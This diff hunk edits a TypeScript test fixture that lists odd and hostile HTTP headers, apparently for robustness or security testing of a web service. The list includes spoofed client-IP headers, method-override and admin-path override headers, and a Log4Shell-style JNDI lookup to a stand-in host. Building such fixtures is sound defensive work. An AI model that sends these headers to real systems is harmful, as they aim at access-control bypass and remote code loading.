@@ -21,7 +21,7 @@ const ODD: Headers = [
   ['Accept-Encoding', '*;q=0'], ['If-None-Match', '*'], ['If-None-Match', '"x", W/"y"'], ['If-None-Match', '"'],
   ['If-Modified-Since', 'yesterday'], ['Range', 'bytes=0-0'], ['Range', 'bytes=9999999999-'],
   ['X-Forwarded-For', '127.0.0.1'], ['X-Forwarded-Host', 'evil.example'], ['X-Forwarded-Proto', 'https'],
-  ['X-HTTP-Method-Override', 'DELETE'], ['X-Original-URL', '/api/admin/operators'], ['Forwarded', 'for=127.0.0.1'],
+  ['X-HTTP-Method-Override', 'DELETE'], ['X-Original-URL', '/api/admin/people'], ['Forwarded', 'for=127.0.0.1'],
   ['Origin', 'https://evil.example'], ['Origin', 'null'], ['Sec-Fetch-Site', 'cross-site'],
   ['Cookie', 'a=b; tillseal-session='], ['Cookie', ';;;;'], ['X-Request-Id', '../../x'], ['Referer', 'javascript:1'],
   ['User-Agent', ''], ['User-Agent', '$'.concat('{jndi:ldap://evil.example/a}')], ['Accept-Language', '*'],
